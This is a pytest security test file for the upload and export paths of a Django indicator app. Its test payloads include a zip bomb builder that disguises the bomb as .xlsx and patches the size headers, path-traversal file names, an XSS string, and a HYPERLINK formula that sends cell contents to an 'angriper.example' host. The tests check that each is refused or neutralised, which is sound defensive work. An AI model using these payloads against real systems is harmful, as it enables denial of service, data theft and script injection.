"""Hostile files and text on every upload: refused clearly, or stored and shown harmlessly.

The upload endpoints are the observation import in the editing pages (upload → mapping →
preview → confirm) and in the API (``POST /api/v1/indicators/{code}/imports``). The roadmap has
no upload endpoint (it is imported with ``retning import-roadmap``); its parser is fuzzed in
tests/roadmap/test_roadmap_csv.py. Council attachments are tested with the council.
"""

import io
import json
import struct
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from retning.accounts.models import ApiToken, User
from retning.indicators import exports
from retning.indicators.models import ImportBatch, Indicator, Observation
from retning.publishing.archive import build_archive
from retning.roadmap.models import Initiative

pytestmark = pytest.mark.django_db

API = "/api/v1"
FORMULA = '=HYPERLINK("http://angriper.example/?"&A1,"Klikk")'
SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'


@pytest.fixture(autouse=True)
def _media(settings: Any, tmp_path: Path) -> Path:
    media = tmp_path / "media"
    media.mkdir()
    settings.MEDIA_ROOT = media
    return media


@pytest.fixture
def indicator(seeded: None) -> Indicator:
    found = Indicator.objects.filter(frequency=Indicator.Frequency.YEARLY).order_by("code").first()
    assert found is not None
    return found


@pytest.fixture
def steward(db: None) -> User:
    return User.objects.create_user(username="forvalter", is_data_steward=True)


@pytest.fixture
def secretary(db: None) -> User:
    return User.objects.create_user(username="sekretar", is_secretariat=True)


def _token(user: User) -> dict[str, str]:
    _, secret = ApiToken.issue(user=user, name="test")
    return {"HTTP_AUTHORIZATION": f"Bearer {secret}"}


def _state(indicator: Indicator) -> tuple[int, int]:
    return (
        Observation.objects.filter(indicator=indicator).count(),
        ImportBatch.objects.filter(indicator=indicator).count(),
    )


def _api_import(
    user: User, indicator: Indicator, data: bytes, media_type: str, **query: str
) -> Any:
    query.setdefault("mapping", json.dumps({"time": "periode", "value": "verdi"}))
    return Client().post(
        f"{API}/indicators/{indicator.code}/imports?"
        + "&".join(f"{k}={v}" for k, v in query.items()),
        data,
        media_type,
        **_token(user),
    )


def _files_under(folder: Path) -> list[Path]:
    return sorted(path for path in folder.rglob("*") if path.is_file())


# --- Zip bombs disguised as spreadsheets -----------------------------------------------------------


def _sheet_bomb(size: int) -> bytes:
    """An .xlsx-shaped archive whose sheet unpacks to ``size`` bytes of one repeated character."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook/>')
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            chunk = b" " * (1024 * 1024)
            for _ in range(size // len(chunk)):
                sheet.write(chunk)
    return buffer.getvalue()


def _lying_sizes(data: bytes, member: str, claimed: int) -> bytes:
    """The archive with ``member``'s uncompressed size in both headers replaced by ``claimed``."""
    patched = bytearray(data)
    name = member.encode()
    local = patched.find(b"PK\x03\x04")
    while local != -1:
        name_length = struct.unpack_from("<H", patched, local + 26)[0]
        if patched[local + 30 : local + 30 + name_length] == name:
            struct.pack_into("<I", patched, local + 22, claimed)
        local = patched.find(b"PK\x03\x04", local + 4)
    central = patched.find(b"PK\x01\x02")
    while central != -1:
        name_length = struct.unpack_from("<H", patched, central + 28)[0]
        if patched[central + 46 : central + 46 + name_length] == name:
            struct.pack_into("<I", patched, central + 24, claimed)
        central = patched.find(b"PK\x01\x02", central + 4)
    return bytes(patched)


def test_a_zip_bomb_posing_as_xlsx_is_refused_quickly_through_the_api(
    indicator: Indicator, steward: User
) -> None:
    bomb = _sheet_bomb(300 * 1024 * 1024)  # 300 MB unpacked, well under 1 MB packed
    assert len(bomb) < 1024 * 1024
    before = _state(indicator)

    started = time.monotonic()
    response = _api_import(steward, indicator, bomb, exports_xlsx_type(), filename="tall.xlsx")
    elapsed = time.monotonic() - started

    assert response.status_code == 422, response.content
    body = response.json()
    assert "Ingenting er lagret" in body["detail"]
    assert any("MB" in e["detail"] or "sikkerhet" in e["detail"] for e in body["errors"]), body
    assert elapsed < 10, "the archive was unpacked instead of refused"
    assert _state(indicator) == before


def test_a_zip_bomb_that_lies_about_its_size_is_refused_too(
    indicator: Indicator, steward: User
) -> None:
    honest = _sheet_bomb(64 * 1024 * 1024)
    liar = _lying_sizes(honest, "xl/worksheets/sheet1.xml", 4096)
    with zipfile.ZipFile(io.BytesIO(liar)) as archive:
        assert archive.getinfo("xl/worksheets/sheet1.xml").file_size == 4096
    before = _state(indicator)

    response = _api_import(steward, indicator, liar, exports_xlsx_type(), filename="tall.xlsx")

    assert response.status_code == 422, response.content
    assert _state(indicator) == before


def test_a_zip_bomb_uploaded_in_the_editing_pages_gets_an_explanation(
    indicator: Indicator, steward: User, _media: Path
) -> None:
    client = Client()
    client.force_login(steward)
    before = _state(indicator)

    response = client.post(
        reverse("editing:import_upload", args=[indicator.code]),
        {
            "file": SimpleUploadedFile("tall.xlsx", _sheet_bomb(300 * 1024 * 1024)),
            "source_name": "",
        },
        follow=True,
    )

    assert response.status_code == 200
    html = response.content.decode()
    assert "sikkerhetshensyn" in html or "MB" in html, html[:2000]
    assert _state(indicator) == before


def exports_xlsx_type() -> str:
    return "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# --- Oversized files -----------------------------------------------------------------------------


def test_an_oversized_file_is_refused_by_the_api_before_it_is_read(
    indicator: Indicator, steward: User, settings: Any
) -> None:
    settings.RETNING_MAX_IMPORT_BYTES = 1024
    data = b"periode;verdi\n" + b"2030;1\n" * 400
    before = _state(indicator)

    raw = _api_import(steward, indicator, data, "text/csv", filename="stor.csv")
    multipart = Client().post(
        f"{API}/indicators/{indicator.code}/imports",
        {
            "file": SimpleUploadedFile("stor.csv", data),
            "mapping": json.dumps({"time": "periode", "value": "verdi"}),
        },
        **_token(steward),
    )

    for response in (raw, multipart):
        assert response.status_code == 422, response.content
        assert "for stor" in json.dumps(response.json(), ensure_ascii=False)
    assert _state(indicator) == before


# --- Path traversal in file names ----------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["../../etc/passwd.csv", "..\\..\\windows\\win.ini.csv", "/etc/passwd.csv"]
)
def test_a_file_name_with_a_path_is_never_used_as_a_path(
    indicator: Indicator, steward: User, _media: Path, tmp_path: Path, name: str
) -> None:
    client = Client()
    client.force_login(steward)
    data = b"periode;verdi\n2041;12\n"
    outside_before = set(_files_under(tmp_path))

    client.post(
        reverse("editing:import_upload", args=[indicator.code]),
        {"file": SimpleUploadedFile(name, data), "source_name": ""},
    )
    api = _api_import(steward, indicator, data, "text/csv", filename=name)

    assert api.status_code in (200, 201), api.content
    staged = _files_under(_media)
    assert staged and all(path.parent == _media / "imports" for path in staged)
    assert not any("passwd" in path.name or "win.ini" in path.name for path in staged)
    # Nothing appeared anywhere else under the test's folder (media lives inside it).
    assert set(_files_under(tmp_path)) - outside_before - set(staged) == set()
    metas = [json.loads(p.read_text()) for p in staged if p.suffix == ".json"]
    assert metas and all("/" not in m["filename"] and "\\" not in m["filename"] for m in metas)
    # The API keeps the name only as text on the import record.
    batch = ImportBatch.objects.filter(indicator=indicator).order_by("-pk").first()
    assert batch is not None and batch.filename == name[:255]


# --- Formula injection and HTML in text that an upload brings in ---------------------------------


def test_formulas_in_imported_text_are_neutralised_in_every_spreadsheet_export(
    indicator: Indicator, steward: User, client: Client
) -> None:
    data = f'periode;verdi;status;gruppe\n2041;12;;"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'.encode()
    mapping = exports.reading_mapping(["gruppe"]).to_dict()

    response = _api_import(steward, indicator, data, "text/csv", mapping=json.dumps(mapping))

    assert response.status_code in (200, 201), response.content
    assert Observation.objects.filter(indicator=indicator, breakdown_value=FORMULA).exists()
    csv_text = client.get(reverse("publishing:indicator_csv", args=[indicator.code])).content
    assert ("'" + FORMULA.replace('"', '""')).encode() in csv_text
    assert b';"=HYPERLINK' not in csv_text and b";=HYPERLINK" not in csv_text
    xlsx = client.get(reverse("publishing:indicator_xlsx", args=[indicator.code])).content
    cells = [
        c for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows(values_only=True) for c in row
    ]
    assert "'" + FORMULA in cells and FORMULA not in cells
    with zipfile.ZipFile(io.BytesIO(build_archive())) as archive:
        observations = archive.read("data/observasjoner.csv").decode("utf-8-sig")
    assert "'" + FORMULA.replace('"', '""') in observations


def test_html_in_imported_and_edited_text_is_shown_escaped_on_public_pages(
    indicator: Indicator, steward: User, secretary: User, client: Client
) -> None:
    data = f"periode;verdi;status;gruppe\n2041;12;;{SCRIPT}\n".encode()
    mapping = exports.reading_mapping(["gruppe"]).to_dict()
    imported = _api_import(steward, indicator, data, "text/csv", mapping=json.dumps(mapping))
    assert imported.status_code in (200, 201), imported.content
    initiative = Initiative.objects.filter(retired_in__isnull=True).order_by("external_id").first()
    assert initiative is not None
    edited = Client().patch(
        f"{API}/initiatives/{initiative.external_id}",
        json.dumps({"version": initiative.version, "title": "Tiltak " + SCRIPT}),
        "application/json",
        **_token(secretary),
    )
    assert edited.status_code == 200, edited.content

    pages = [
        reverse("publishing:indicator_detail", args=[indicator.code]),
        reverse("publishing:initiative_detail", args=[initiative.external_id]),
        reverse("publishing:roadmap") + "?q=Tiltak",
        reverse("publishing:search") + "?q=Tiltak",
    ]
    for url in pages:
        html = client.get(url).content.decode()
        assert "<script>alert" not in html and "<img src=x" not in html, url
    initiative_page = client.get(pages[1]).content.decode()
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in initiative_page
